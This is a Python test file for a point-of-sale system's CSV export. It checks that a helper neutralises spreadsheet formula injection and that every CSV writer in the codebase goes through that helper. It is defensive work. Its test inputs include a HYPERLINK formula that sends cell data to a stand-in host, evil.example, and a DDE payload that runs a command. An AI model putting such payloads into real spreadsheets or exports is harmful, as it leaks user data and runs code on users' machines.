"""CSV the till writes cannot carry a formula into a spreadsheet (CSV injection, OWASP)."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from pos.domain import csv_safe

POS = Path(__file__).resolve().parents[2] / "pos"


def written(rows: list[list[object]]) -> list[list[str]]:
    """Write with the helper, read back with the csv module (as a spreadsheet would)."""
    out = io.StringIO(newline="")
    csv_safe.writer(out).writerows(rows)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # full-width equals sign
    ],
)
def test_a_value_starting_like_a_formula_is_written_as_text(value: str) -> None:
    assert written([["name", value]]) == [["name", "'" + value]]


def test_ordinary_text_numbers_and_empty_cells_are_written_as_they_are() -> None:
    rows: list[list[object]] = [
        ["Sunlight Soap 1kg", 125000, Decimal("-5.00"), -3, None, "a=b", "50% off"]
    ]
    assert written(rows) == [["Sunlight Soap 1kg", "125000", "-5.00", "-3", "", "a=b", "50% off"]]


def test_booleans_and_floats_are_text_and_still_neutralised() -> None:
    assert csv_safe.cell(True) == "True"
    assert csv_safe.cell(-1.5) == "'-1.5"  # pass amounts as int or Decimal, not float


def test_quotes_and_separators_inside_a_value_survive_the_round_trip() -> None:
    value = '=A1,"x"\nnext'
    assert written([[value]]) == [["'" + value]]


def test_no_module_of_the_till_writes_csv_without_the_helper() -> None:
    """Every CSV writer goes through pos.domain.csv_safe (a new export cannot forget)."""
    offenders = []
    for path in sorted(POS.rglob("*.py")):
        if path == POS / "domain" / "csv_safe.py":
            continue
        if "sandbox" in path.relative_to(POS).parts:
            # a gateway simulator writes the gateway's own export byte for byte (the
            # statements reconciliation reads); it is not a file the till hands to people
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path.relative_to(POS.parent)}:{node.lineno}")
            if (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and any(alias.name in ("writer", "DictWriter") for alias in node.names)
            ):
                offenders.append(f"{path.relative_to(POS.parent)}:{node.lineno}")
    assert offenders == []
